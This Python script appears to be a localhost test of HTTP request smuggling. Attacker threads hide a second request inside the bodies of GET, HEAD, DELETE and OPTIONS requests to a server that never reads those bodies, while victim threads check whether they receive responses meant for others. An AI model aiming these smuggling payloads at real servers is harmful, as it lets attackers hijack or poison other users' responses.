#!/usr/bin/env python3
"""A server that leaves content unread, and clients that exploit it, beside others with unique paths."""

import http.client
import http.server
import socket
import sys
import threading
import time

ATTACKERS, VICTIMS, SECONDS = 3, 6, 2
METHODS = "GET", "HEAD", "DELETE", "OPTIONS"


class Handler(http.server.BaseHTTPRequestHandler):
    """Answers with the path, over connections that it keeps."""

    protocol_version = "HTTP/1.1"

    def answer(self):
        content = self.path.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(content)

    do_GET = do_HEAD = do_DELETE = do_OPTIONS = answer

    def log_message(self, *_):
        pass


def attack(port, until, number):
    """Requests whose content is a request, whole or without its end."""
    for turn, _ in enumerate(iter(lambda: time.monotonic() < until, False)):
        content = f"GET /smuggled/{number}/{turn} HTTP/1.1\r\nHost: a\r\n"
        content += "\r\n" if turn % 2 else "X-Rest: "
        method = METHODS[turn % len(METHODS)]
        head = f"{method} /attack HTTP/1.1\r\nHost: a\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
        with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall((head + content).encode())
            while connection.recv(65536):
                pass


def request(port, until, number, wrong, counts):
    """Requests with paths of its own; notes responses to other ones."""
    while time.monotonic() < until:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        for _ in range(5):
            counts[number] += 1
            path = f"/victim/{number}/{counts[number]}"
            connection.request("GET", path)
            response = connection.getresponse()
            content = response.read().decode()
            if (response.status, content) != (200, path):
                wrong.append((path, response.status, content))
        connection.close()


def main(port):
    until, wrong, counts = time.monotonic() + SECONDS, [], [0] * VICTIMS
    threads = [threading.Thread(target=attack, args=(port, until, n)) for n in range(ATTACKERS)]
    threads += [threading.Thread(target=request, args=(port, until, n, wrong, counts)) for n in range(VICTIMS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{len(wrong)} of {sum(counts)} responses were not one's own", *wrong[:3])
    return not wrong and sum(counts) > 100


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[2])), Handler).serve_forever()
    sys.exit(0 if main(int(sys.argv[2])) else 1)
